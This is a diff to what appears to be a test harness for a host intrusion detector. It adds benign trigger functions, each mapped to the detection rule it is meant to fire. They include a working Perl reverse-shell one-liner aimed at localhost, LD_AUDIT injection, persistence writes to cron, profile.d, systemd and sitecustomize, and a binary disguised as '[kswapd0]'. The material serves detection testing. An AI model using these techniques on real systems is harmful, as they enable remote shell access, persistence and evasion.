@@ -536,6 +536,63 @@ def sysctl_read(c: Ctx) -> None:
     c.run(["cat", "/proc/sys/kernel/randomize_va_space"])
 
 
+def ptrace_seize(c: Ctx) -> None:
+    c.b("ptrace-seize")
+
+
+def chmod_setgid(c: Ctx) -> None:
+    f = c.scratch / "sgid-target"
+    f.write_bytes(b"")
+    c.run(["chmod", "g+s", str(f)])
+    f.unlink()
+
+
+def ld_audit(c: Ctx) -> None:
+    c.run(["/bin/true"], env=c.env(LD_AUDIT=c.preload))
+
+
+def reverse_shell_perl(c: Ctx) -> None:
+    code = ('use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+            f'connect(S,sockaddr_in({c.port},inet_aton("127.0.0.1"))) or die;'
+            'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");')
+    c.run(["perl", "-e", code])
+
+
+def kernel_thread_file(c: Ctx) -> None:
+    d = c.scratch / f"kt-{os.getpid()}"
+    d.mkdir()
+    exe = d / "[kswapd0]"
+    shutil.copy("/bin/true", exe)
+    c.run([str(exe)])
+    shutil.rmtree(d)
+
+
+def exec_from_hidden_tmp(c: Ctx) -> None:
+    d = _tmpdir(".pw-")
+    try:
+        shutil.copy("/bin/true", d / "agent")
+        c.run([str(d / "agent")])
+    finally:
+        shutil.rmtree(d)
+
+
+def cron_d_attempt(c: Ctx) -> None:
+    c.b("open-write", "/etc/cron.d/pw-test")
+
+
+def profile_d_attempt(c: Ctx) -> None:
+    c.b("open-write", "/etc/profile.d/pw-test.sh")
+
+
+def system_unit_attempt(c: Ctx) -> None:
+    c.b("open-write", "/etc/systemd/system/pw-test.service")
+
+
+def sitecustomize(c: Ctx) -> None:
+    c.sh(f"echo 'import os' > {c.site / 'sitecustomize.py'}")
+    (c.site / "sitecustomize.py").unlink()
+
+
 Behavior = tuple[Callable[[Ctx], None], frozenset[str]]
 
 
@@ -549,6 +606,7 @@ BEHAVIORS: dict[str, Behavior] = {
     "ptrace_traceme": _p(ptrace_traceme, "ptrace_traceme"),
     "ptrace_attach": _p(ptrace_attach, "ptrace_attach"),
     "ptrace_poke": _p(ptrace_poke, "ptrace_attach", "ptrace_poke"),
+    "ptrace_seize": _p(ptrace_seize, "ptrace_attach"),
     "ptrace_peek": _p(ptrace_peek),
     # memory of other processes
     "procmem_write": _p(procmem_write, "proc_mem_write"),
@@ -560,6 +618,7 @@ BEHAVIORS: dict[str, Behavior] = {
     "memfd_noexec": _p(memfd_noexec),
     # dynamic linker
     "ld_preload": _p(ld_preload, "ld_preload_exec"),
+    "ld_audit": _p(ld_audit, "ld_preload_exec"),
     "ld_library_path": _p(ld_library_path),
     "ld_so_preload_attempt": _p(ld_so_preload_attempt, "ld_so_preload_write"),
     "ld_so_conf_read": _p(ld_so_conf_read),
@@ -577,6 +636,7 @@ BEHAVIORS: dict[str, Behavior] = {
     "bpf_map": _p(bpf_map),
     # privileges on files
     "chmod_setuid": _p(chmod_setuid, "setuid_setgid_bit"),
+    "chmod_setgid": _p(chmod_setgid, "setuid_setgid_bit"),
     "chmod_plain": _p(chmod_plain),
     "setcap": _p(setcap, "file_capabilities_set"),
     "user_xattr": _p(user_xattr),
@@ -596,6 +656,8 @@ BEHAVIORS: dict[str, Behavior] = {
     "reverse_shell_bash_devtcp": _p(reverse_shell_bash_devtcp, "reverse_shell_command_line",
                                     "reverse_shell_sequence", "shell_network_connection"),
     "reverse_shell_python_pty": _p(reverse_shell_python_pty, "reverse_shell_command_line"),
+    "reverse_shell_perl": _p(reverse_shell_perl, "reverse_shell_command_line",
+                             "reverse_shell_sequence"),
     "bash_devtcp_probe": _p(bash_devtcp_probe, "shell_network_connection"),
     "python_connect_only": _p(python_connect_only),
     "python_pty_spawn": _p(python_pty_spawn, "interpreter_pty_shell"),
@@ -604,12 +666,16 @@ BEHAVIORS: dict[str, Behavior] = {
     "script_to_file": _p(script_to_file),
     # persistence
     "crontab_spool": _p(crontab_spool, "cron_persistence"),
+    "cron_d_attempt": _p(cron_d_attempt, "cron_persistence"),
     "crontab_elsewhere": _p(crontab_elsewhere),
     "bashrc_append": _p(bashrc_append, "shell_profile_persistence"),
+    "profile_d_attempt": _p(profile_d_attempt, "shell_profile_persistence"),
     "bashrc_backup_write": _p(bashrc_backup_write),
     "user_systemd_unit": _p(user_systemd_unit, "systemd_unit_persistence"),
+    "system_unit_attempt": _p(system_unit_attempt, "systemd_unit_persistence"),
     "unit_elsewhere": _p(unit_elsewhere),
     "pth_hook": _p(pth_hook, "python_startup_hook"),
+    "sitecustomize": _p(sitecustomize, "python_startup_hook"),
     "site_packages_text": _p(site_packages_text),
     "rc_local_attempt": _p(rc_local_attempt, "rc_script_persistence"),
     "etc_other_attempt": _p(etc_other_attempt),
@@ -626,12 +692,14 @@ BEHAVIORS: dict[str, Behavior] = {
     "download_then_execute": _p(download_then_execute, "download_then_execute"),
     "download_only_and_tmp_build": _p(download_only_and_tmp_build),
     "exec_from_dev_shm": _p(exec_from_dev_shm, "exec_from_tmp_shm"),
+    "exec_from_hidden_tmp": _p(exec_from_hidden_tmp, "exec_from_tmp_shm"),
     # masquerading
     "argv0_spoof": _p(argv0_spoof, "argv0_masquerade"),
     "argv0_relative": _p(argv0_relative),
     "prctl_rename_python": _p(prctl_rename_python, "prctl_rename_interpreter"),
     "prctl_rename_compiled": _p(prctl_rename_compiled),
     "kernel_thread_name": _p(kernel_thread_name, "kernel_thread_masquerade"),
+    "kernel_thread_file": _p(kernel_thread_file, "kernel_thread_masquerade"),
     # sniffing
     "sniff": _p(sniff, "packet_socket_sniffing"),
     "packet_no_filter": _p(packet_no_filter),
